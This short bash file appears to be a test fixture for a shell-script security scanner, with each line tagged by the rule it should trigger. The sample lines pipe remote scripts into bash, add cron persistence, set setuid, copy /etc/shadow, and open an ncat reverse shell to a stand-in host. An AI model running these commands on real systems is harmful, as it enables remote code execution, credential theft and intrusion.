#!/usr/bin/env bash
set -euo pipefail
source <(curl -s https://get.example.net/lib.sh) # FIND: shell.network shell.dynamic-code
command eval "$1" # FIND: shell.dynamic-code
env -u X wget https://get.example.net/x -O- | bash -s # FIND: shell.network shell.dynamic-code
(crontab -l; echo "* * * * * x") | crontab - # FIND: shell.privilege shell.privilege
chmod u+s ./x # FIND: shell.privilege
cat /etc/shadow > out # FIND: shell.outside-file
nohup ncat -e /bin/sh drop.example.net 4 & # FIND: shell.network
